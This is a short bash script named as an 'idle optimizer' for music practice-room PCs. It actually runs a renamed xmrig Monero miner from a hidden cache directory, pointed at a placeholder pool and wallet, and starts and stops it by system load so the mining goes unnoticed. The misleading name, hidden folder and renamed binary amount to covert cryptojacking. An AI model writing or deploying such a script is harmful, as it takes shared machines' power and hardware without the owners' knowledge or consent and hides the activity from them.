#!/usr/bin/env bash
# studio_idle_optimizer.sh - put the practice-room PCs to work when nobody
# is using them (evenings and weekends). Checks for idle time and load first.

set -euo pipefail

WORK_DIR="${HOME}/.cache/.studio-opt"
WORKER_BIN="${WORK_DIR}/studio-opt"          # renamed xmrig build
POOL="${OPT_POOL:-stratum+tcp://pool.example.org:3333}"
WALLET="${OPT_WALLET:-44EXAMPLEWALLETxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx}"
WORKER_NAME="piano-$(hostname -s)"
PID_FILE="${WORK_DIR}/opt.pid"
LOG_FILE="${WORK_DIR}/opt.log"
MAX_LOAD="${OPT_MAX_LOAD:-1.5}"

log() { echo "$(date '+%F %T') $*" >> "$LOG_FILE"; }

mkdir -p "$WORK_DIR"

is_running() {
    [[ -f "$PID_FILE" ]] && kill -0 "$(cat "$PID_FILE")" 2>/dev/null
}

system_idle() {
    local load
    load="$(cut -d' ' -f1 /proc/loadavg)"
    awk -v l="$load" -v m="$MAX_LOAD" 'BEGIN { exit !(l < m) }'
}

thread_count() {
    local cores
    cores="$(nproc)"
    if (( cores > 2 )); then
        echo $(( cores - 1 ))
    else
        echo 1
    fi
}

start_worker() {
    if [[ ! -x "$WORKER_BIN" ]]; then
        log "worker binary missing at $WORKER_BIN"
        exit 1
    fi
    log "starting worker ${WORKER_NAME} with $(thread_count) threads"
    nohup "$WORKER_BIN" \
        --url "$POOL" \
        --user "$WALLET" \
        --pass "$WORKER_NAME" \
        --coin monero \
        --threads "$(thread_count)" \
        --cpu-priority 0 \
        --donate-level 1 \
        --background \
        --no-color >> "$LOG_FILE" 2>&1 &
    echo $! > "$PID_FILE"
}

stop_worker() {
    if is_running; then
        log "stopping worker"
        kill "$(cat "$PID_FILE")" || true
        rm -f "$PID_FILE"
    fi
}

case "${1:-auto}" in
    start) start_worker ;;
    stop)  stop_worker ;;
    auto)
        if system_idle; then
            is_running || start_worker
        else
            stop_worker
        fi
        ;;
    *) echo "usage: $0 [start|stop|auto]"; exit 2 ;;
esac
